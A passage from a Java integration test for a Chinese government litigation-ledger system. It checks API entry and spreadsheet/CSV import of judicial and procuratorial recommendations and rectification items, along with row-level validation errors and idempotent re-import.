        assertFalse(events.getString("find { it.transition == 'HOLD_SESSION' }.details.importedFrom.file").isEmpty());
    }

    @Test
    void recommendationsAndRectificationItemsComeInThroughTheirLedgers() throws IOException {
        // the same two recommendations entered through the API for the organ that entered its lawsuits step by step
        long l1 = lawsuitId(walked, "(2022)苏0585行初101号");
        var r1 = Api.json().body(obj("kind", "JUDICIAL", "issuer", "应诉台账测试市人民法院", "documentNumber", "(2022)苏0585司建1号",
                "lawsuitId", l1, "organId", walked, "addressee", A, "subject", "负责人无正当理由未出庭应诉", "receivedDate", "2022-12-15"))
                .post("/api/v1/recommendations").then().statusCode(201).extract();
        Api.json().header("If-Match", r1.header("ETag")).body(obj("date", "2023-01-20", "summary", "已整改"))
                .post("/api/v1/recommendations/" + r1.jsonPath().getLong("id") + "/answer").then().statusCode(200);
        Api.json().body(obj("kind", "PROCURATORIAL", "issuer", "应诉台账测试市人民检察院", "documentNumber", "应检行建〔2023〕3号",
                "organId", walked, "addressee", B, "subject", "违法占地未依法查处", "receivedDate", "2023-05-10"))
                .post("/api/v1/recommendations").then().statusCode(201);

        List<Map<String, String>> recommendations = List.of(
                recommendation("(2022)苏0585司建1号", "司法建议", "应诉台账测试市人民法院", "(2022)苏0585行初101号", A, "负责人无正当理由未出庭应诉",
                        "2022-12-15", "2023-01-20", "已整改"),
                recommendation("应检行建〔2023〕3号", "PROCURATORIAL", "应诉台账测试市人民检察院", null, B, "违法占地未依法查处",
                        "2023-05-10", null, null),
                recommendation("(2023)苏0585司建9号", "司法建议", "应诉台账测试市人民法院", "(2023)苏0585行初404号", A, "某事",
                        "2023-05-10", null, null),                                                          // 4: unknown lawsuit
                with(recommendation("(2023)苏0585司建10号", "司法建议", "应诉台账测试市人民法院", null, A, "某事", "2023-05-10", null, null),
                        "危害持续扩大", "是"));                                                              // 5: only for procuratorial
        JsonPath rec = Ledgers.run("recommendations", imported, Ledgers.xlsx("recommendations", "司法建议检察建议台账", imported,
                recommendations), "recommendations.xlsx", "validRows");
        assertEquals(2, rec.getInt("rowsWritten"), rec.prettify());
        assertTrue(has(rec, 4, "关联法院案号", "LEDGER_LAWSUIT_UNKNOWN"), rec.prettify());
        assertTrue(has(rec, 5, "危害持续扩大", "LEDGER_ONLY_FOR_KIND"), rec.prettify());
        for (int year : List.of(2022, 2023)) {
            assertEquals(statistics("", walked, "year", year).getMap("counts"), statistics("", imported, "year", year).getMap("counts"));
        }
        JsonPath counts = statistics("", imported, "year", 2023);
        assertEquals(1, counts.getInt("counts.procuratorialRecommendations"));
        assertEquals(1, counts.getInt("counts.recommendationsAnswered"));

        List<Map<String, String>> items = List.of(
                item("LAWSUIT", "(2023)苏0585行初2号", "执法程序不规范", "2023-08-30", "已修订执法流程", "2023-08-20"),
                with(item("司法建议或检察建议", "(2022)苏0585司建1号", "负责人出庭应诉制度落实不到位", "2023-03-31", null, null), "整改单位", A),
                item("LAWSUIT", "(2023)苏0585行初5号", "某问题", "2023-08-30", null, null),                    // 4: not lost
                item("LAWSUIT", "(2023)苏0585行初404号", "某问题", "2023-08-30", null, null),                  // 5: unknown source
                item("LAWSUIT", "(2023)苏0585行初2号", "执法程序不规范", "2023-09-30", null, null),             // 6: same item twice
                item("LAWSUIT", "(2023)苏0585行初3号", "某问题", "2023-08-30", null, "2023-08-20"));            // 7: done without actions
        byte[] csv = Ledgers.csv(items, CsvFiles.GB18030, false);
        JsonPath rect = Ledgers.run("rectifications", imported, csv, "rectifications.csv", "validRows");
        assertEquals("GB18030", rect.getString("encoding"));
        assertEquals(2, rect.getInt("rowsWritten"), rect.prettify());
        assertTrue(has(rect, 4, "来源编号", "RECTIFICATION_NEEDS_LOSS"), rect.prettify());
        assertTrue(has(rect, 5, "来源编号", "LEDGER_SOURCE_UNKNOWN"), rect.prettify());
        assertTrue(has(rect, 6, "存在问题", "LEDGER_DUPLICATE_IN_FILE"), rect.prettify());
        assertTrue(has(rect, 7, "整改措施", "LEDGER_NEEDS"), rect.prettify());
        JsonPath list = given().queryParam("organId", imported).get("/api/v1/rectifications").then().statusCode(200).extract().jsonPath();
        assertEquals(2, list.getList("items").size());
        assertEquals("2023-08-20", list.getString("items.find { it.problem == '执法程序不规范' }.closedDate"));
        assertEquals(A, list.getString("items.find { it.problem == '执法程序不规范' }.respondentName"));
        // opened and closed from one row: one audit record of the import, with both steps
        long closedItem = list.getLong("items.find { it.problem == '执法程序不规范' }.id");
        assertEquals(List.of("IMPORTED"), importOperations("RECTIFICATION", closedItem));

        JsonPath again = Ledgers.run("rectifications", imported, csv, "rectifications.csv", "validRows");
        assertEquals(0, again.getInt("rowsWritten"));
        assertEquals(2, again.getInt("rowsUnchanged"), again.prettify());
        JsonPath recAgain = Ledgers.run("recommendations", imported, Ledgers.xlsx("recommendations", "司法建议检察建议台账", imported,
                recommendations.subList(0, 2)), "recommendations.xlsx", "validRows");
        assertEquals(2, recAgain.getInt("rowsUnchanged"), recAgain.prettify());
        assertEquals(2, given().queryParam("organId", imported).get("/api/v1/rectifications").then().extract().jsonPath()
                .getList("items").size());

        for (String ledger : List.of("recommendations", "rectifications")) {
            try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(Ledgers.template(ledger, imported)))) {
                assertEquals(3, wb.getNumberOfSheets());
                assertTrue(wb.getSheet("填写说明").getLastRowNum() > 8, ledger);
            }
        }
    }

    private static Map<String, String> recommendation(String number, String kind, String issuer, String lawsuit, String addressee,
            String subject, String received, String answered, String summary) {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("文书编号", number);
        m.put("建议类型", kind);
        m.put("发出机关", issuer);
        m.put("关联法院案号", lawsuit);
        m.put("被建议单位", addressee);
        m.put("建议事项", subject);
        m.put("收到日期", received);
        m.put("答复日期", answered);
        m.put("答复情况", summary);
        return m;
    }

    private static Map<String, String> with(Map<String, String> m, String header, String value) {
        m.put(header, value);
        return m;
    }

    private static Map<String, String> item(String source, String number, String problem, String due, String actions, String closed) {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("整改来源", source);
        m.put("来源编号", number);
        m.put("整改单位", null);
        m.put("存在问题", problem);
        m.put("整改期限", due);
        m.put("整改措施", actions);
        m.put("整改完成日期", closed);
        return m;
    }
}
